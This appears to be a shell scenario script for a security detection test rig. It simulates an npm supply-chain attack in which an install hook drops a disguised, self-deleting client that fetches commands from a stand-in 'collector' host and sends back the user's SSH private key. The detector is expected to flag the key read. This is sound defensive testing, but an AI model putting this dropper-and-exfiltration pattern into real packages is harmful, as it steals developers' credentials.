# shellcheck shell=bash disable=SC2016,SC2034,SC2086,SC2154,SC2317 # rig.sh calls it, programs expand it
incident "axios: a dropper starts a remote shell client, which removes itself and does what it is told"

package honest 'node setup.js'
script node_modules/honest/setup.js <<<'cp "$bin/worker" /tmp/worker; /tmp/worker; rm /tmp/worker'
package evil 'node setup.js'
script node_modules/evil/setup.js <<'X'
cp "$bin/worker" /tmp/com.apple.act.mond
exec /tmp/com.apple.act.mond "$app/client.js"
X
native worker <<<':'
script client.js <<'X'
rm -f /tmp/com.apple.act.mond
for n in 1 2; do http GET collector:8443/files/command; done
content "${answer%$'\n'}"
http POST collector:8443/result "" "$content"
X
echo $home/.ssh/id_ed25519 >$rig/files/command
surroundings+=("bin=$bin")

innocent() { job build -- npm install honest; }
attack() { job build -- npm install evil; }

expect unexpected-reader Medium ssh
